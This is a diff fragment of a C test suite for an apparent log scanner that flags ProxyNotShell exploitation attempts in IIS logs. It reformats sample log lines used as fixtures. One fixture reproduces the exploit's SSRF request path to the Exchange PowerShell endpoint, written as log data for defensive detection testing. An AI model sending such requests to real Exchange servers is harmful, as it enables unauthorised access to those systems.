+        &b, "2022-10-05 14:02:10 10.10.0.25 GET /autodiscover/autodiscover.json "
+            "x@y.example/mapi/nspi/ 443 - 198.51.100.23 Mozilla/5.0 - 401 0 0 15\r\n"
+            "2022-10-05 14:02:10 10.10.0.25 GET /autodiscover/autodiscover.json "
+            "x@y.example/mapi/nspi/ 443 CORP\\dave 198.51.100.23 Mozilla/5.0 - 200 0 0 15\r\n");
     run(&s, name, b.p, b.n);
     CHECK_EQ_INT(count(&s, "EXH-PNS-001"), 1);
     CHECK_EQ_INT(count(&s, "EXH-PNS-002"), 1);
@@ -729,7 +773,8 @@ static void test_chains_iis(void)
     /* the ProxyNotShell PoC's path form: '@' in the path, '//' before powershell */
     exh_buf_reset(&b);
     exh_buf_adds(&b, head);
-    exh_buf_adds(&b, "2022-10-05 16:20:01 10.10.0.25 POST /autodiscover/admin@localhost//powershell/autodiscover.json "
+    exh_buf_adds(&b, "2022-10-05 16:20:01 10.10.0.25 POST "
+                     "/autodiscover/admin@localhost//powershell/autodiscover.json "
                      "x=a 443 CORP\\dave 198.51.100.23 Mozilla/5.0 - 200 0 0 15\r\n");
     run(&s, name, b.p, b.n);
     CHECK_EQ_INT(count(&s, "EXH-PNS-002"), 1);
@@ -737,8 +782,10 @@ static void test_chains_iis(void)
     /* Outlook's own autodiscover.json with an address: nothing */
     exh_buf_reset(&b);
     exh_buf_adds(&b, head);
-    exh_buf_adds(&b, "2022-10-05 08:00:01 10.10.0.25 GET /autodiscover/autodiscover.json/v1.0/alice@corp.example.com "
-                     "Protocol=AutodiscoverV1&RedirectCount=1 443 - 198.51.100.40 Outlook-iOS/2.0 - 200 0 0 15\r\n");
+    exh_buf_adds(&b, "2022-10-05 08:00:01 10.10.0.25 GET "
+                     "/autodiscover/autodiscover.json/v1.0/alice@corp.example.com "
+                     "Protocol=AutodiscoverV1&RedirectCount=1 443 - 198.51.100.40 Outlook-iOS/2.0 "
+                     "- 200 0 0 15\r\n");
     run(&s, name, b.p, b.n);
     CHECK_EQ_INT(s.r.nfindings, 0);
     exh_result_release(&s.r);
